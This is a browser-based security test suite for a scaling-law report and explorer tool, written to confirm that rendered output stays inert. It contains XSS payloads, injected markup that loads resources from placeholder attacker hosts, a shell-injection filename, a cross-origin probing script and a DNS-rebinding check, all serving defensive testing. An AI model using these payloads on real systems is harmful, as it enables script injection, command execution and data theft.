"""What is shown, attacked in a real browser: pages, charts, notebooks, and other sites that look at the explorer."""

from __future__ import annotations

import functools
import http.server
import json
import threading
from contextlib import contextmanager
from dataclasses import replace

import polars as pl
import pytest
import sympy as sp
from conftest import synthetic_sweep
from explorer import explorer, rows

import bitlaw as bl
from bitlaw import Runs, Store
from bitlaw.laws import chinchilla
from bitlaw.laws.own import law_from_data
from bitlaw.report import write_report
from bitlaw.report.blocks import Answer, Code, Equations, Heading, Items, Picture, Table, Text
from bitlaw.report.chart import Axis, Band, Bars, Chart, Line, Points, Rule
from bitlaw.report.figures import write_figures
from bitlaw.report.page import page as as_page

pytestmark = pytest.mark.slow
OWN = "document.title='owned'"
PAYLOADS = (
    f"<script>{OWN}</script>",
    f'"><img src=x onerror="{OWN}">',
    f"'><svg/onload={OWN}>",
    f'<a href="javascript:{OWN}">a link</a>',
    '<a href="https://evil.example/" target="_blank">a link</a>',
    '<img src="https://evil.example/pixel.png">',
    f"</script><script>{OWN}</script><!--",
    f"<!--<script>{OWN}//",
    f"]]><script>{OWN}</script>",
    f"</title><script>{OWN}</script></textarea></style></noscript>",
    f"<math><mtext></mtext><style><img src onerror={OWN}></style></math>",
    f'<span style="background:url(https://evil.example/x)" onmouseover="{OWN}">x</span>',
    f"<iframe srcdoc='<script>parent.{OWN}</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "&lt;b&gt; &#60;script&#62; &amp;lt;",
    "$\\href{javascript:1}{x}$ <b>bold</b> <br> %{x} {{7*7}} ${7*7}",
    "a\u2028b\u2029c \\u003cscript> \\ ' \" `",
)
ALL = " ".join(PAYLOADS)
FOUND = """() => ({
  title: document.title,
  elements: [...document.querySelectorAll(
      'main :is(img, iframe, a, script, style, object, embed, form[action], base, meta), svg :is(a, image, script)')]
    .map((e) => e.outerHTML.slice(0, 200)),
  handlers: [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on'))),
})"""


@pytest.fixture
def opened(browser):
    """Opens an address; says what was requested."""
    contexts = []

    def open_at(address):
        context = browser.new_context(viewport={"width": 1300, "height": 900})
        contexts.append(context)
        page = context.new_page()
        page.asked = []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("dialog", lambda dialog: page.asked.append("dialog"))
        page.goto(address)
        return page

    yield open_at
    for context in contexts:
        context.close()


@contextmanager
def site(folder, name):
    """A site of somebody else at another port; its address, and what was asked of it."""
    hits = []

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *words):
            hits.append(self.path)

    server = http.server.ThreadingHTTPServer((name, 0), functools.partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{name}:{server.server_port}", hits
    finally:
        server.shutdown()
        server.server_close()


def chart(text):
    """A chart that says a text wherever it can."""
    marks = (
        Points([1.0, 9.0], [3.0, 2.0], text, 0, 0, hover=(text, text), ids=(text, text)),
        Line([1.0, 9.0], [3.0, 2.0], f"line {text}", 1),
        Band([1.0, 9.0], [2.0, 1.5], [3.2, 2.5], f"band {text}", 2),
        Rule(x=3.0, text=text),
        Rule(y=2.5, text=text),
    )
    return Chart("a", text, text, Axis(text), Axis(text), marks, legend=text)


def named(text):
    bars = Bars([0.0, 1.0], [1.0, 2.0], [0.5, 1.0], [2.0, 3.0], text)
    return Chart("b", text, text, Axis(text), Axis(text, ticks=(0.0, 1.0), names=(text, text)), (bars,))


def test_every_kind_of_block_and_chart_shows_text_as_text(opened, tmp_path):
    symbols = [sp.Symbol(text) for text in PAYLOADS]
    blocks = [Heading(ALL, 1), Text(ALL), Text(ALL, "lead"), Items(PAYLOADS), Code(ALL)]
    blocks += [Table([ALL, "b"], [[text, text] for text in PAYLOADS], [1], caption=ALL)]
    blocks += [Table(["a"], [[ALL]], folded=ALL), Answer([Heading(ALL, 3), Text(ALL)])]
    blocks += [Equations({"L": sp.Add(*symbols)}), Equations({"L": sp.exp(symbols[0]) / symbols[1]})]
    blocks += [Picture(make(text)) for text in PAYLOADS for make in (chart, named)]
    path = tmp_path / "a.html"
    path.write_text(as_page(blocks, ALL), encoding="utf-8")
    page = opened(path.as_uri())
    page.wait_for_selector("figure svg.main-svg")
    assert len(page.query_selector_all("figure svg.main-svg")) >= 2 * len(PAYLOADS)
    found = page.evaluate(FOUND)
    assert found["title"] == " ".join(ALL.split()) or found["title"].startswith("<script>document.title")
    assert found["elements"] == [] and found["handlers"] == []
    assert page.inner_text("h1").startswith(PAYLOADS[0])
    for place in ("figure .xtitle", "figure .legendtext", "figure .annotation-text"):
        assert page.text_content(place).startswith("<script>document.title"), place
    plot = page.query_selector("figure .nsewdrag").bounding_box()
    for share in (0.05, 0.5, 0.95):
        page.mouse.move(plot["x"] + share * plot["width"], plot["y"] + (1 - share) * plot["height"])
        page.wait_for_timeout(150)
    assert page.evaluate(FOUND)["elements"] == [] and page.title() != "owned"
    assert set(page.asked) == {path.as_uri()}


def strange(path):
    """A report of rows, a law and a plan that all say what they should not."""
    runs = synthetic_sweep(0, paired=True, post_of_low=False)
    names = pl.Series([f"{k} {PAYLOADS[k % len(PAYLOADS)]}" for k in range(len(runs))])
    runs = Runs(runs.frame.with_columns(names.alias("id"), pl.lit(ALL[:900]).alias("corpus")), ALL)
    limits = {"low": 1e-6, "high": 1e12, "start": [1, 1e3], "unit": PAYLOADS[0], "meaning": ALL[:300]}
    data = {
        "name": "strange",
        "source": PAYLOADS[1],
        "loss": "E + A * N**-a + B * D**-b",
        "parameters": {"E": limits, "A": limits, "B": limits, "a": limits | {"high": 3, "start": [0.1, 1]}},
        "conditions": [{"expression": "N", "sentence": PAYLOADS[2]}],
    }
    data["parameters"]["b"] = data["parameters"]["a"]
    fit = bl.fit(law_from_data(data), runs, draws=30)
    fit = replace(fit, notes=(*fit.notes, *PAYLOADS))
    plan = replace(bl.plan(fit, budget=1e21), question=ALL, notes=PAYLOADS)
    words = ("bitlaw", "plan", "--fit", ALL)
    write_report(path, runs, fit, plans=[plan], title=ALL, command=ALL, planner=words, before=ALL)
    return runs, fit, plan


def test_a_report_of_strange_rows_laws_and_plans_asks_and_runs_nothing(opened, tmp_path):
    path = tmp_path / "report.html"
    strange(path)
    page = opened(path.as_uri())
    page.wait_for_selector("#planner svg.main-svg")
    for summary in page.query_selector_all("summary"):
        summary.click()
    found = page.evaluate(FOUND)
    assert found["title"] != "owned" and found["elements"] == [] and found["handlers"] == []
    assert "<script>" in page.inner_text("code[data-name=command]")
    assert set(page.asked) == {path.as_uri()}


HARM = """
<script>OWN</script><script src="EVIL/x.js"></script><img src="EVIL/x.png" onerror="OWN"><svg onload="OWN"></svg>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.OWN</script>"></iframe><base href="EVIL/">
<a id="go" href="javascript:OWN">x</a><link rel="stylesheet" href="EVIL/x.css"><object data="EVIL/o"></object>
<form id="send" action="EVIL/form"><input name="a" value="b"></form><video src="EVIL/v"></video>
<style>@import url(EVIL/i.css); h1 { background: url(EVIL/b.png) }</style>
"""


def test_the_policy_of_a_report_stops_what_is_put_in_by_hand(opened, tmp_path):
    path, plain = tmp_path / "report.html", tmp_path / "plain.html"
    write_report(path, None, bl.fit(chinchilla, synthetic_sweep(0), draws=20))
    with site(tmp_path, "127.0.0.1") as (there, hits):
        harm = HARM.replace("EVIL", there).replace("OWN", OWN)
        text = path.read_text(encoding="utf-8")
        assert text.count("<main>") == 1
        path.write_text(text.replace("<main>", f"<main>{harm}"), encoding="utf-8")
        page = opened(path.as_uri())
        page.wait_for_selector("#planner svg.main-svg")  # our own scripts still run
        page.evaluate(
            "() => { document.getElementById('go').click(); document.getElementById('send').submit(); }"
        )
        page.wait_for_timeout(500)
        assert page.url == path.as_uri() and page.evaluate("document.title") == "Scaling report"
        assert hits == []
        text = path.read_text(encoding="utf-8").replace("Content-Security-Policy", "X-Nothing")
        plain.write_text(text, encoding="utf-8")  # the same without the policy: this can fail
        careless = opened(plain.as_uri())
        careless.wait_for_timeout(500)
        assert careless.title() == "owned" and {"/x.js", "/frame", "/i.css"} <= set(hits)


def test_what_a_notebook_shows_runs_nothing(opened, tmp_path):
    """Notebooks run the scripts of what they are given to show."""
    runs, fit, plan = strange(tmp_path / "report.html")
    comparison = replace(bl.compare(synthetic_sweep(0), ["chinchilla", "kaplan"]), left_out={ALL: ALL})
    shows = "(html) => document.body.append(document.createRange().createContextualFragment(html))"
    for shown in (runs, fit, plan, comparison):
        page = opened("about:blank")
        page.evaluate(shows, shown._repr_html_())
        page.wait_for_timeout(100)
        inside = page.evaluate(
            "[...new Set([...document.body.querySelectorAll('*')].map((e) => e.localName))]"
        )
        assert set(inside) <= {
            "div",
            "p",
            "table",
            "caption",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "ul",
            "li",
            "br",
            "b",
            "strong",
        }, inside
        assert page.evaluate(FOUND)["handlers"] == []
        assert page.title() == "" and page.asked in ([], ["about:blank"])
        assert "<script>" in page.inner_text("body")
    page.evaluate(shows, f"<script>{OWN}</script>")
    assert page.title() == "owned"  # so it would have run


# ---- the explorer


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    path = tmp_path_factory.mktemp("attack") / "<img src=x onerror=alert(1)>'; touch pwned; '.sqlite"
    made = rows(200)
    for k, row in enumerate(made):
        name = PAYLOADS[k % len(PAYLOADS)] + str(k)
        row |= {"id": name, "trunk": name, "corpus": name, "reason": name, "config": json.dumps({name: name})}
    store = Store(path)
    store.add(made)
    store.close()
    with explorer(str(path)) as found:
        yield found


def test_no_view_of_the_explorer_reads_text_as_anything_else(opened, address):
    page = opened(address)
    page.wait_for_selector("table.runs tbody tr")
    for name in ("runs", "fit", "compare", "plan", "sweep", "export"):
        page.click(f"#tab-{name}")
        page.wait_for_timeout(300)
    page.click("#tab-fit")
    page.select_option("#law", "kumar")
    page.click("#fit-go")
    page.wait_for_selector("#fit-result svg.main-svg", timeout=120_000)
    page.click("#tab-runs")
    for button in page.query_selector_all("table.runs button.link")[: len(PAYLOADS)]:
        button.click()
        page.wait_for_selector("dialog[open]")
        for fold in page.query_selector_all("dialog details summary"):
            fold.click()
        page.keyboard.press("Escape")
    found = page.evaluate(
        FOUND.replace("main :is(img, iframe, a,", "main :is(img, iframe, a:not(#csv),").replace(
            " script,", " script:not([type]),", 1
        )
    )
    assert found["elements"] == [] and found["handlers"] == []
    assert (
        "owned" not in page.title()
        and page.evaluate("document.querySelectorAll('dialog img, dialog a').length") == 0
    )
    assert all(url.startswith((address, "data:")) for url in page.asked)
    assert "dialog" not in page.asked


SPY = """
async ([target, own]) => {
  const out = {}, wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const tried = async (name, work) => {
    try { out[name] = await work(); } catch (error) { out[name] = `refused ${error.name}`; }
  };
  const loaded = (tag, at, rest = {}) => new Promise((done) => {
    const made = Object.assign(document.createElement(tag), rest);
    made.onload = () => done("loaded"); made.onerror = () => done("refused");
    made[tag === "link" ? "href" : "src"] = at;
    document.body.append(made);
    setTimeout(() => done("nothing"), 3000);
  });
  await tried("cors", async () => (await fetch(target + "rows")).text());
  await tried("no-cors", async () => (await fetch(target + "rows", { mode: "no-cors" })).type);
  await tried("post", async () => (await fetch(target + "rows", { mode: "no-cors", method: "POST", body: "x" })).type);
  await tried("import", async () => typeof (await import(target + "assets/main.js")));
  await tried("worker", async () => new Worker(target + "assets/main.js") && "made");
  const heard = (source) => new Promise((done) => {
    source.onopen = source.onmessage = () => done("open");
    source.onerror = () => done("refused");
  });
  await tried("events", () => heard(new EventSource(target + "state")));
  await tried("socket", () => heard(new WebSocket(target.replace("http", "ws"))));
  out.script = await loaded("script", target + "assets/numbers.js");
  out.data = await loaded("script", target + "rows");
  out.style = await loaded("link", target + "assets/page.css", { rel: "stylesheet" });
  out.image = await loaded("img", target + "rows");
  out.ran = String(globalThis.bitlaw);
  const frame = document.createElement("iframe");
  frame.src = target; document.body.append(frame); await wait(700);
  await tried("frame", async () => frame.contentWindow.document.body.innerText);
  out.frames = frame.contentWindow.length;
  const other = window.open(target); await wait(1200);
  await tried("window", async () => (other === null || other.closed ? "closed" : other.document.title));
  out.own = await (await fetch(own)).text();
  return out;
}
"""


def test_another_site_in_the_browser_learns_nothing_even_with_the_token(browser, address, tmp_path):
    (tmp_path / "index.html").write_text("<!doctype html><title>a site</title><body>")
    (tmp_path / "own.txt").write_text("this site can read")

    for name in ("127.0.0.1", "localhost"):
        with site(tmp_path, name) as (there, _):
            context = browser.new_context()
            try:
                page = context.new_page()
                page.goto(f"{there}/index.html")
                found = page.evaluate(SPY, [address, "own.txt"])
            finally:
                context.close()
        assert found.pop("own") == "this site can read"
        assert found.pop("ran") == "undefined" and found.pop("frames") == 0
        assert found.pop("window") in ("closed", "refused SecurityError", "refused TypeError")
        assert {value.split()[0] for value in found.values()} <= {"refused", "nothing"}, found


def test_a_name_of_ones_own_that_leads_here_is_refused(browser, address):
    """DNS rebinding: the browser believes that it still talks to the other site."""
    port = address.split(":")[2].split("/")[0]
    rule = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    with_rule = browser.browser_type.launch(executable_path=browser.path, args=["--no-sandbox", rule])
    try:
        page = with_rule.new_page()
        token = address.split("/")[3]
        answer = page.goto(f"http://evil.example:{port}/{token}/")
        assert answer.status == 421 and "127.0.0.1 alone" in page.content()
        read = page.evaluate("async (at) => (await fetch(at)).status", f"/{token}/rows")
        assert read == 421
    finally:
        with_rule.close()


UNUSUAL = """[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()
  .filter((n) => /^on/.test(n) || (/href$/.test(n) && !e.getAttribute(n).startsWith('#'))))"""


@pytest.mark.filterwarnings("ignore:constrained_layout not applied", "ignore:Glyph")
def test_figures_as_files_hold_text_alone(opened, tmp_path):
    for k, text in enumerate(PAYLOADS):
        write_figures(tmp_path / str(k), [chart(text)], ["svg"])
        page = opened((tmp_path / str(k) / "a.svg").as_uri())
        names = page.evaluate("[...new Set([...document.querySelectorAll('*')].map((e) => e.localName))]")
        assert not {"script", "a", "image", "foreignObject", "iframe", "img", "animate", "set"} & set(names)
        assert page.evaluate(UNUSUAL) == [] and len(page.asked) == 1
